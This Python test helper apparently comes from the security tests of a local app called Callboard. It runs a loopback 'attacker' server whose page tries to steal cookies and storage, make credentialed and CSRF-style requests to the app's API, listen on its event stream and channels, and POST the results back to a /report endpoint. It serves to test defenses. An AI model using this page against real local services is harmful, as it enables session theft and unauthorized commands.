"""An attacker's means on the same machine: a recording listener, and a page that tries everything."""

from __future__ import annotations

import asyncio
import json
from dataclasses import dataclass, field
from typing import Any

#: The listener's page. It tries to read and to change something of Callboard, and reports what it
#: got.
_PAGE = """<!doctype html>
<html><meta charset="utf-8"><title>another port</title><script>
const target = TARGET
const got = []
const note = (what, value) => got.push([what, String(value).slice(0, 2000)])
const until = (work, ms) => Promise.race([work, new Promise(done => setTimeout(done, ms))])
const attempts = [
  ['cookies', async () => document.cookie],
  ['storage', async () => JSON.stringify({ ...sessionStorage, ...localStorage })],
  ['opener', async () => window.opener && window.opener.location.href],
  ['referrer', async () => document.referrer],
  ['read', async () => (await fetch(target + '/api/v1/meta', { credentials: 'include' })).text()],
  ['read blind', async () => (await fetch(target + '/api/v1/meta', { credentials: 'include', mode: 'no-cors' })).type],
  ['page', async () => (await fetch(target + '/', { credentials: 'include' })).text()],
  ['write', async () => (await fetch(target + '/api/v1/commands/open_workspace', {
    method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({ path: '/' }) })).type],
  ['redeem', async () => (await fetch(target + '/api/v1/page/credentials', {
    method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ code: 'x', proofKey: 'a'.repeat(43) + '=' }) })).text()],
  ['stream', () => new Promise(done => {
    const source = new EventSource(target + '/api/events', { withCredentials: true })
    source.onmessage = event => done(event.data)
    source.onerror = () => { source.close(); done('') } })],
  ['tabs', () => new Promise(done => {
    const channel = new BroadcastChannel('callboard.access')
    channel.onmessage = event => done(JSON.stringify(event.data))
    channel.postMessage({ ask: true }) })],
  ['window', async () => {
    const other = window.open(target + '/')
    await new Promise(done => setTimeout(done, 500))
    return other && JSON.stringify({ ...other.sessionStorage }) }],
  ['frame', () => new Promise(done => {
    const frame = document.createElement('iframe')
    frame.src = target + '/'
    frame.onload = () => { try { done(frame.contentWindow.sessionStorage.length) } catch (error) { done('') } }
    document.documentElement.append(frame) })],
]
const run = async () => {
  for (const [what, attempt] of attempts) {
    try { note(what, (await until(attempt(), 1500)) ?? '') } catch (error) { note(what, '') }
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(got) })
}
run()
</script></html>
"""


@dataclass
class Listener:
    """A server on its own port.

    `received` has everything that was sent to it, `reports` what its page got.
    """

    target: str = ""
    port: int = 0
    received: list[str] = field(default_factory=list[str])
    reports: list[dict[str, str]] = field(default_factory=list[dict[str, str]])
    reported: asyncio.Event = field(default_factory=asyncio.Event)
    _server: asyncio.Server | None = None

    async def start(self) -> None:
        """Listen on any port of loopback, by both of its names."""
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]

    async def stop(self) -> None:
        """Accept no more requests."""
        assert self._server is not None
        self._server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            fields = dict(line.lower().split(": ", 1) for line in head.split("\r\n")[1:] if ": " in line)
            body = (await reader.readexactly(int(fields.get("content-length", "0")))).decode("utf-8", "replace")
            if head.startswith("POST /report"):
                report: list[list[Any]] = json.loads(body)
                self.reports.append({str(attempt): str(value) for attempt, value in report})
                self.reported.set()
            else:
                self.received.append(head + body)
            page = _PAGE.replace("TARGET", json.dumps(self.target)).encode()
            sent = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
            writer.write(f"{sent}Content-Length: {len(page)}\r\n\r\n".encode() + page)
            await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            return
        finally:
            writer.close()
